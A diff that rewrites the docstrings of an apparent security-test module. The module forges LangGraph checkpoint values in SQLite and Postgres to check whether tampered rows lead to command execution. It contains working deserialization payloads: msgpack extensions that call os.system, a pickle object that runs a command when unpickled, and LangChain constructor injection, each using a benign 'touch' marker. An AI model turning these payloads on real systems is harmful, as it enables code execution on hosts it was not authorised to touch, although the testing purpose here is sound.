@@ -1,4 +1,4 @@
-"""Somebody who can write to the memory's database, and writes commands into it."""
+"""An attacker who can write to the memory's database and puts commands into it."""
 
 from __future__ import annotations
 
@@ -29,19 +29,19 @@ Place = Literal["state", "writes"]
 
 @dataclass(frozen=True)
 class Forged:
-    """A value as a row holds it: the name of its encoding, and its bytes."""
+    """A value as stored in a row: the name of its encoding, and its bytes."""
 
     encoding: str
     value: bytes
 
 
 def packed(code: int, content: object) -> Forged:
-    """One of LangGraph's extensions to msgpack."""
+    """Return ``content`` packed as LangGraph's msgpack extension ``code``."""
     return Forged("msgpack", ormsgpack.packb(ormsgpack.Ext(code, ormsgpack.packb(content))))
 
 
 def system(mark: Path) -> ormsgpack.Ext:
-    """The plain attack, to be put inside of something."""
+    """Return the basic attack, to be nested in another value."""
     content = ("os", "system", f"touch {mark}")
     return ormsgpack.Ext(EXT_CONSTRUCTOR_SINGLE_ARG, ormsgpack.packb(content))
 
@@ -51,7 +51,7 @@ def touch(mark: Path) -> list[str]:
 
 
 class Reduced:
-    """What pickle makes of it is a command."""
+    """An object that runs a command when it is unpickled."""
 
     def __init__(self, mark: Path) -> None:
         self._command = touch(mark)
@@ -67,7 +67,7 @@ def as_json(content: object) -> Forged:
 
 
 def prompt(mark: Path) -> dict[str, Any]:
-    """A template of LangChain's own: not a command, but an object that the graph never had."""
+    """Return a LangChain template: not a command, but a type that the graph never stored."""
     names = ["langchain_core", "prompts", "prompt", "PromptTemplate"]
     kwargs = {"template": str(mark), "input_variables": []}
     return {"lc": 1, "type": "constructor", "id": names, "kwargs": kwargs}
@@ -112,7 +112,7 @@ COMMANDS: Mapping[str, Callable[[Path], Forged]] = {
         EXT_CONSTRUCTOR_POS_ARGS, ("langgraph.types", "Send", ["talk", {"note": system(mark)}])
     ),
 }
-"""Run where LangGraph is left as it comes."""
+"""Attacks that work against LangGraph's defaults."""
 
 HARMLESS: Mapping[str, Callable[[Path], Forged]] = {
     "method": lambda mark: packed(
@@ -129,11 +129,11 @@ HARMLESS: Mapping[str, Callable[[Path], Forged]] = {
     "no such encoding": lambda mark: Forged("msgpack; touch", str(mark).encode()),
     "not msgpack": lambda mark: Forged("msgpack", b"\xc1" + str(mark).encode()),
 }
-"""Dead already in the LangGraph that is pinned; a later one may wake them up."""
+"""Attacks that fail in the pinned LangGraph already; a later version may enable them again."""
 
 
 def forge_sqlite(file: Path, place: Place, forged: Forged, channel: str = "note") -> int:
-    """Put a value into the newest checkpoint of every thread; how many were changed."""
+    """Put a value into the newest checkpoint of every thread; return how many were changed."""
     with closing(sqlite3.connect(file)) as database, database:
         newest = database.execute(
             "SELECT thread_id, checkpoint_ns, MAX(checkpoint_id) FROM checkpoints GROUP BY 1, 2"
@@ -157,9 +157,10 @@ def forge_sqlite(file: Path, place: Place, forged: Forged, channel: str = "note"
 
 
 def _within(checkpoint: bytes, channel: str, forged: Forged) -> tuple[str, bytes]:
-    """The checkpoint with the forged value in a channel, its other extensions as they were.
+    """Return the checkpoint with the forged value in a channel; other extensions are unchanged.
 
-    SQLite has one value for the whole checkpoint, so one that is not msgpack takes its place.
+    SQLite stores the whole checkpoint as one value, so a forged value that is not msgpack
+    replaces all of it.
     """
     if forged.encoding != "msgpack" or forged.value.startswith(b"\xc1"):
         return forged.encoding, forged.value
@@ -170,7 +171,7 @@ def _within(checkpoint: bytes, channel: str, forged: Forged) -> tuple[str, bytes
 
 
 def forge_postgres(url: str, forged: Forged, channel: str = "note") -> int:
-    """Put a value into every stored value of a channel, and into every write; how many."""
+    """Replace every stored value and every write of a channel; return how many were changed."""
     with psycopg.connect(url, autocommit=True) as database:
         values = (forged.encoding, forged.value, channel)
         changed = database.execute(
